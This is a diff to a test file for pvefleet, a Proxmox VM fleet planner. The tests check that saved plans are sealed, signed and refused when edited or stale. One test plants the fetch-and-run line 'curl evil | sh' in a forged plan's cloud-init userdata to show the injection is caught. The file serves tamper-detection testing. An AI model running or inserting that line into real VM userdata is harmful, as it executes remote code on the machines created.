@@ -1,7 +1,10 @@
 import { describe, expect, it } from "vitest";
 import { plan } from "../../src/planner/plan.js";
-import { checkSavedPlan, checkVmDigests, parseSavedPlan, serializePlan, vmsToRecheck } from "../../src/planner/saved-plan.js";
-import { desired, detail, group, live, member, planOptions, state } from "./fixtures.js";
+import {
+  checkSameAsFresh, checkSavedPlan, checkVmDigests, parseSavedPlan, planDifferences, readSavedPlan, savedPlanHash, serializePlan, vmsToRecheck,
+} from "../../src/planner/saved-plan.js";
+import type { Plan } from "../../src/planner/types.js";
+import { desired, detail, group, idSource, live, member, node, planOptions, state, vm } from "./fixtures.js";
 
 function fixture() {
   const m = member(1, { vm: { cores: 8 } });
@@ -16,6 +19,78 @@ describe("saved plans", () => {
     expect(parseSavedPlan(serializePlan(p))).toEqual(p);
   });
 
+  it("loads a plan whose drift holds unmanaged, suspicious and orphan VMs (no expected/actual)", () => {
+    const vms = [vm(500, "ops-db", { tags: ["prod"], ownership: "unmanaged" }), vm(501, "web00000000000000000000000501", { tags: ["lab"], ownership: "suspicious" })];
+    const p = plan(desired([group("web", 1)]), undefined, live(vms), planOptions());
+    expect(p.drift.map((f) => f.kind)).toEqual(expect.arrayContaining(["unmanaged"]));
+    expect(p.drift.some((f) => !("expected" in JSON.parse(JSON.stringify(f))))).toBe(true);
+    expect(parseSavedPlan(serializePlan(p), "p.json")).toEqual(p);
+  });
+
+  it("records the options it was made with, and refuses them edited", () => {
+    const { p } = fixture();
+    const text = serializePlan(p, { targets: ["acme.web"], gc: true, detailPolicy: "ours" });
+    expect(readSavedPlan(text).options).toEqual({ targets: ["acme.web"], replace: [], adopt: false, gc: true, ignoreCapacity: false, allowRestart: false, detailPolicy: "ours" });
+    const edited = JSON.parse(text);
+    edited.seal.options.gc = false;
+    expect(() => readSavedPlan(JSON.stringify(edited), "p.json")).toThrow(/^p\.json was changed after pvefleet wrote it/);
+  });
+
+  it("refuses a file whose content does not hash to the plan hash recorded at plan time", () => {
+    const { p } = fixture();
+    const edited = JSON.parse(serializePlan(p));
+    edited.actions[0].vmid = 500;
+    expect(() => parseSavedPlan(JSON.stringify(edited), "p.json")).toThrow(/^p\.json was changed after pvefleet wrote it: its content does not hash/);
+    const unsealed = JSON.parse(serializePlan(p));
+    delete unsealed.seal;
+    expect(() => parseSavedPlan(JSON.stringify(unsealed), "p.json")).toThrow(/^p\.json carries no plan hash/);
+  });
+
+  it("binds the hash to the state lineage, serial and shard file digest", () => {
+    const { p } = fixture();
+    const base = savedPlanHash(p, {});
+    expect(savedPlanHash({ ...p, state: { ...p.state, serial: 8 } }, {})).not.toBe(base);
+    expect(savedPlanHash({ ...p, state: { ...p.state, lineage: "x" } }, {})).not.toBe(base);
+    expect(savedPlanHash({ ...p, configDigest: "sha256:cfg2" }, {})).not.toBe(base);
+    expect(savedPlanHash(JSON.parse(JSON.stringify(p)), {})).toBe(base);
+  });
+
+  it("with a key: verifies the signature, refuses an unsigned plan or another key, and apply refuses a signed plan without the key", () => {
+    const { p } = fixture();
+    const key = "k".repeat(32);
+    const signed = serializePlan(p, {}, key);
+    expect(readSavedPlan(signed, "p.json", { key, strict: true }).signed).toBe(true);
+    expect(() => readSavedPlan(signed, "p.json", { key: "o".repeat(32), strict: true })).toThrow(/^p\.json does not carry a valid signature/);
+    expect(() => readSavedPlan(serializePlan(p), "p.json", { key, strict: true })).toThrow(/^p\.json is not signed, but PVEFLEET_PLAN_KEY is set/);
+    expect(() => readSavedPlan(signed, "p.json", { strict: true })).toThrow(/^p\.json is signed, but PVEFLEET_PLAN_KEY is not set/);
+    expect(parseSavedPlan(signed)).toEqual(p); // show reads it
+    // An editor who recomputes the plain hash still cannot make the signature.
+    const edited = JSON.parse(signed);
+    edited.changes[0].reasons = ["x"];
+    delete edited.seal.mac;
+    const { seal, ...rest } = edited;
+    edited.seal.hash = savedPlanHash(rest, seal.options);
+    expect(() => readSavedPlan(JSON.stringify(edited), "p.json", { key, strict: true })).toThrow(/is not signed/);
+  });
+
+  it("refuses a file whose create steps do not go where its placement says, even with the hash recomputed", () => {
+    const p = plan(desired([group("web", 1)]), undefined, live([]), planOptions());
+    const id = p.changes[0]!.instanceId;
+    const forged = structuredClone(p);
+    for (const a of forged.actions) if (a.instanceId === id) a.vmid = 10077;
+    expect(() => parseSavedPlan(reseal(forged), "p.json")).toThrow(/^p\.json was edited: action .* targets pve\d\/10077, but the VM is placed at/);
+  });
+
+  it("refuses an action that belongs to no change, or whose id names another instance", () => {
+    const { m, p } = fixture();
+    const forged = structuredClone(p);
+    forged.actions[0]!.instanceId = "ops-db";
+    expect(() => parseSavedPlan(reseal(forged), "p.json")).toThrow(/^p\.json was edited: action .* is a configure of ops-db/);
+    forged.actions[0]!.id = "ops-db:configure";
+    expect(() => parseSavedPlan(reseal(forged), "p.json")).toThrow(/belongs to no change/);
+    void m;
+  });
+
   it("records the config digest of every existing VM it modifies", () => {
     const { m, p } = fixture();
     expect(p.vmDigests).toEqual({ [m.vm.vmid]: `digest-${m.vm.vmid}` });
@@ -26,9 +101,9 @@ describe("saved plans", () => {
     expect(() => parseSavedPlan("{nope", "x.plan")).toThrow(/x\.plan is not a pvefleet plan \(not JSON/);
     expect(() => parseSavedPlan(JSON.stringify({ formatVersion: 9 }), "x.plan")).toThrow(/format version 9; this pvefleet reads version 1/);
     const { p } = fixture();
-    const broken = JSON.parse(serializePlan(p));
-    broken.actions[0].dependsOn = "x";
-    expect(() => parseSavedPlan(JSON.stringify(broken), "x.plan")).toThrow(/x\.plan is not a valid pvefleet plan: actions\.0\.dependsOn/);
+    const broken = structuredClone(p) as unknown as { actions: { dependsOn: unknown }[] };
+    broken.actions[0]!.dependsOn = "x";
+    expect(() => parseSavedPlan(reseal(broken as unknown as Plan), "x.plan")).toThrow(/x\.plan is not a valid pvefleet plan: actions\.0\.dependsOn/);
   });
 
   it("accepts a plan whose state has not moved", () => {
@@ -64,4 +139,59 @@ describe("saved plans", () => {
     expect(() => checkVmDigests(p, [detail(m.vm, m.record, { digest: "new" })])).toThrow(`Saved plan is stale: VM ${m.vm.vmid} config changed`);
     expect(() => checkVmDigests(p, [])).toThrow(`VM ${m.vm.vmid} is gone`);
   });
+
+  describe("the plan made again at apply time", () => {
+    const world = () => {
+      const m = member(1, { vm: { cores: 8 } });
+      const s = state([m.record], 7);
+      return { d: desired([group("web", 3, { userdata: { source: "inline", encoding: "plain", content: "#cloud-config\n" } })]), s, l: live([m.vm]), det: [detail(m.vm, m.record)] };
+    };
+
+    it("matches when only new instance IDs, placement and the clock differ", () => {
+      const w = world();
+      const saved = plan(w.d, w.s, w.l, planOptions(), w.det);
+      const nodes = [node("pve1", 64, 60), node("pve2", 64, 8), node("pve3", 64, 1)];
+      const fresh = plan(w.d, w.s, { ...w.l, nodes, fetchedAt: "2026-03-02T09:30:00.000Z" }, { newInstanceId: idSource(700) }, w.det);
+      expect(fresh.changes.filter((c) => c.kind === "create").map((c) => c.instanceId)).not.toEqual(saved.changes.filter((c) => c.kind === "create").map((c) => c.instanceId));
+      const placed = (p: Plan) => p.changes.filter((c) => c.kind === "create").map((c) => c.placement!.node).sort();
+      expect(placed(fresh)).not.toEqual(placed(saved));
+      expect(planDifferences(saved, fresh)).toEqual([]);
+      expect(() => checkSameAsFresh(saved, fresh)).not.toThrow();
+    });
+
+    it("refuses injected userdata in a new VM", () => {
+      const w = world();
+      const saved = structuredClone(plan(w.d, w.s, w.l, planOptions(), w.det)); // the spec objects are shared
+      const fresh = plan(w.d, w.s, w.l, planOptions(), w.det);
+      const create = saved.changes.find((c) => c.kind === "create")!;
+      create.after = { ...create.after!, userdata: { source: "inline", encoding: "plain", content: "#!/bin/sh\ncurl evil | sh\n" } };
+      expect(() => checkSameAsFresh(saved, fresh)).toThrow(/^Saved plan is stale: it does not match what pvefleet would do now \(a new VM of acme\.web: change\.after\.userdata\.content differs\)/);
+    });
+
+    it("refuses an injected param, a retargeted VMID or node of an existing VM, and a missing or extra change", () => {
+      const w = world();
+      const fresh = plan(w.d, w.s, w.l, planOptions(), w.det);
+      const id = member(1).record.instanceId;
+      const forge = (edit: (p: Plan) => void) => {
+        const p = structuredClone(plan(w.d, w.s, w.l, planOptions(), w.det));
+        edit(p);
+        return planDifferences(p, fresh);
+      };
+      expect(forge((p) => { p.actions.find((a) => a.type === "upload-iso")!.params.userdata = { content: "x" }; })).toEqual(["a new VM of acme.web: actions.upload-iso.params.userdata differs"]);
+      expect(forge((p) => { p.actions.find((a) => a.instanceId === id)!.vmid = 500; })).toEqual([`${id}: actions.configure.vmid differs`]);
+      expect(forge((p) => { p.actions.find((a) => a.instanceId === id)!.node = "pve3"; })).toEqual([`${id}: actions.configure.node differs`]);
+      expect(forge((p) => { p.changes = p.changes.filter((c) => c.kind !== "create"); p.actions = p.actions.filter((a) => a.instanceId === id); })).toEqual(["the file creates 0 new VMs of acme.web, pvefleet would now create 2"]);
+      expect(forge((p) => { p.changes = p.changes.filter((c) => c.instanceId !== id); p.actions = p.actions.filter((a) => a.instanceId !== id); })).toEqual([`${id}: pvefleet would now change it, the file does not`]);
+      expect(forge((p) => { p.vmDigests = {}; })).toEqual(["the VM config digests differ"]);
+      expect(forge((p) => { p.state.serial = 6; })).toEqual(["serial 6 in the file, 7 now"]);
+    });
+  });
 });
+
+/** What an editor without the key can do: rewrite the plan and recompute the plain hash. */
+function reseal(p: Plan): string {
+  const file = JSON.parse(serializePlan(p));
+  const { seal, ...rest } = file;
+  file.seal.hash = savedPlanHash(rest, seal.options);
+  return JSON.stringify(file);
+}
